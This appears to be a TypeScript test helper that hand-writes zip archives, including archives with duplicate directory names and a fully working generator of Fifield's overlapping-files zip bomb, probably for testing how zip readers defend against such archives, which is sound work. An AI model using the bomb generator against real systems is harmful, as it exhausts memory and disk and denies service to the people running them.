/**
 * Zips written field by field, for archives no zip library would write: a central directory
 * that lists one entry twice, under two names, or entries whose data overlap (David Fifield's
 * "overlapping files" zip bomb, https://www.bamsoftware.com/hacks/zipbomb/).
 */
import { crc32, deflateRawSync } from 'node:zlib';

/** One entry's local header and data as written. */
export interface RawZipEntry {
  readonly name: string;
  /** The bytes after the local header: deflated (method 8) or stored (method 0). */
  readonly data: Buffer;
  readonly method: 0 | 8;
  /** CRC-32 and size of the inflated bytes. */
  readonly crc: number;
  readonly size: number;
}

/** An entry holding `content`, deflated unless `compress` is false. */
export function rawEntry(name: string, content: string | Uint8Array, compress = true): RawZipEntry {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'utf8') : Buffer.from(content);
  return {
    name,
    data: compress ? deflateRawSync(bytes) : bytes,
    method: compress ? 8 : 0,
    crc: crc32(bytes),
    size: bytes.length,
  };
}

/** A record of the central directory: the written entry it points at, under a name of its own. */
export interface DirectoryRecord {
  /** Index into the entries written. */
  readonly entry: number;
  /** @default the entry's name */
  readonly name?: string;
}

const LOCAL_HEADER = 30;
const CENTRAL_HEADER = 46;

/** The local header of `entry`, its name after it. */
function localHeader(entry: RawZipEntry): Buffer {
  const name = Buffer.from(entry.name);
  const header = Buffer.alloc(LOCAL_HEADER);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4); // version needed
  header.writeUInt16LE(0x0800, 6); // UTF-8 names
  header.writeUInt16LE(entry.method, 8);
  header.writeUInt32LE(0x58210000, 10); // 2024-01-01 00:00
  header.writeUInt32LE(entry.crc >>> 0, 14);
  header.writeUInt32LE(entry.data.length, 18);
  header.writeUInt32LE(entry.size, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name]);
}

/**
 * The entries written one after another, then a central directory of `directory` (by default
 * one record per entry, in order), then its end record.
 */
export function buildRawZip(
  entries: readonly RawZipEntry[],
  directory: readonly DirectoryRecord[] = entries.map((_, entry) => ({ entry })),
): Buffer {
  const pieces: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  for (const entry of entries) {
    const local = localHeader(entry);
    offsets.push(offset);
    pieces.push(local, entry.data);
    offset += local.length + entry.data.length;
  }
  const records = directory.map((record) => {
    const entry = entries[record.entry];
    if (entry === undefined) throw new Error(`no entry ${record.entry}`);
    return centralRecord(entry, offsets[record.entry] ?? 0, record.name ?? entry.name);
  });
  return Buffer.concat([...pieces, ...records, endRecord(records, offset)]);
}

function centralRecord(entry: RawZipEntry, offset: number, name: string): Buffer {
  const local = localHeader(entry);
  const nameBytes = Buffer.from(name);
  const record = Buffer.alloc(CENTRAL_HEADER);
  record.writeUInt32LE(0x02014b50, 0);
  record.writeUInt16LE(20, 4); // made by
  local.copy(record, 6, 4, 26); // version needed … uncompressed size
  record.writeUInt16LE(nameBytes.length, 28);
  record.writeUInt32LE(offset, 42);
  return Buffer.concat([record, nameBytes]);
}

function endRecord(records: readonly Buffer[], directoryOffset: number): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(records.length, 8);
  end.writeUInt16LE(records.length, 10);
  end.writeUInt32LE(
    records.reduce((sum, record) => sum + record.length, 0),
    12,
  );
  end.writeUInt32LE(directoryOffset, 16);
  return end;
}

/**
 * Fifield's overlapping-files zip bomb: one deflated kernel of `kernel` that every entry's data
 * ends with. Entry i's data is a stored deflate block quoting the local header of entry i + 1,
 * then entry i + 1's data, so it inflates to every later local header and the kernel: n entries
 * inflate to about n times the kernel from one copy of it. Each entry's CRC-32 and sizes are
 * right, so a reader that does not look for overlaps inflates all of it.
 */
export function buildOverlappingZip(names: readonly string[], kernel: Uint8Array): Buffer {
  const kernelData = deflateRawSync(kernel);
  const entries: RawZipEntry[] = [];
  const quotes: Buffer[] = [];
  let data = kernelData;
  let content = Buffer.from(kernel);
  // From the last entry to the first: each header holds the CRC-32 and sizes of its whole tail.
  for (let i = names.length - 1; i >= 0; i--) {
    const entry: RawZipEntry = {
      name: names[i] as string,
      data,
      method: 8,
      crc: crc32(content),
      size: content.length,
    };
    entries[i] = entry;
    if (i === 0) break;
    // A non-final stored block of this header's bytes: 0x00, LEN, NLEN (little-endian).
    const local = localHeader(entry);
    const quote = Buffer.alloc(5);
    quote.writeUInt16LE(local.length, 1);
    quote.writeUInt16LE(~local.length & 0xffff, 3);
    quotes[i - 1] = quote;
    data = Buffer.concat([quote, local, data]);
    content = Buffer.concat([local, content]);
  }
  // Written once: the first header, the quote of the second, the second header, …, the kernel.
  const pieces: Buffer[] = [];
  const records: Buffer[] = [];
  let offset = 0;
  entries.forEach((entry, i) => {
    const local = localHeader(entry);
    records.push(centralRecord(entry, offset, entry.name));
    const quote = quotes[i];
    pieces.push(local);
    offset += local.length;
    if (quote !== undefined) {
      pieces.push(quote);
      offset += quote.length;
    }
  });
  pieces.push(kernelData);
  offset += kernelData.length;
  return Buffer.concat([...pieces, ...records, endRecord(records, offset)]);
}
